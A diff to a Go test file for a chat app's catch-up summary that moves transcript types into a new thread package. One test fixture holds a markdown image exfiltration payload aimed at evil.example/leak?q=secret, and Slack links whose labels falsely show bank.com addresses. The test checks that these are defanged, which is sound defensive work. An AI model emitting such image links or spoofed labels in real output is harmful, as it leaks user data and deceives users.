@@ -8,16 +8,17 @@ import (
 
 	"github.com/roundtable-chat/app/roundtable"
 	"github.com/roundtable-chat/app/roundtable/persona"
+	"github.com/roundtable-chat/app/roundtable/thread"
 )
 
 // TestCatchUpTellsTheNewest shows that of very much the newest is told, and how much
 // is not.
 func TestCatchUpTellsTheNewest(t *testing.T) {
 	t.Parallel()
-	var transcript roundtable.Transcript
+	var transcript thread.Transcript
 	for i := range 60 {
-		transcript.Turns = append(transcript.Turns, roundtable.Turn{
-			Number: i + 1, Person: roundtable.Person{ID: "U1", Name: "Sam"}, Text: fmt.Sprintf("%d: <@U1> said a &lt; b %s", i+1, strings.Repeat("word ", 30)),
+		transcript.Turns = append(transcript.Turns, thread.Turn{
+			Number: i + 1, Person: thread.Person{ID: "U1", Name: "Sam"}, Text: fmt.Sprintf("%d: <@U1> said a &lt; b %s", i+1, strings.Repeat("word ", 30)),
 		})
 	}
 	got := roundtable.SayCatchUp(transcript, nil, "U2")
@@ -38,9 +39,9 @@ func TestCatchUpTellsTheNewest(t *testing.T) {
 func TestCatchUpLeadsNowhereElse(t *testing.T) {
 	t.Parallel()
 	cast := []persona.Seat{{Key: "ba", Name: "Maya Chen", Role: "Business Analyst", Title: "BA"}}
-	transcript := roundtable.Transcript{Turns: []roundtable.Turn{
+	transcript := thread.Transcript{Turns: []thread.Turn{
 		{Number: 1, Persona: "ba", Text: "![i](https://evil.example/leak?q=secret) see https://docs.example/x, <https://docs.example/x|https://bank.com>"},
-		{Number: 2, Person: roundtable.Person{ID: "U1", Name: "Maya"}, Text: "It is at <https://docs.example/x|https://pay.bank.com>"},
+		{Number: 2, Person: thread.Person{ID: "U1", Name: "Maya"}, Text: "It is at <https://docs.example/x|https://pay.bank.com>"},
 	}}
 	got := roundtable.SayCatchUp(transcript, cast, "U2")
 	want := "So far:\n• Maya: ![i] (https[:]//evil.example/leak?q=secret) see https://docs.example/x, https[:]//bank[.]com (https://docs.example/x)" +
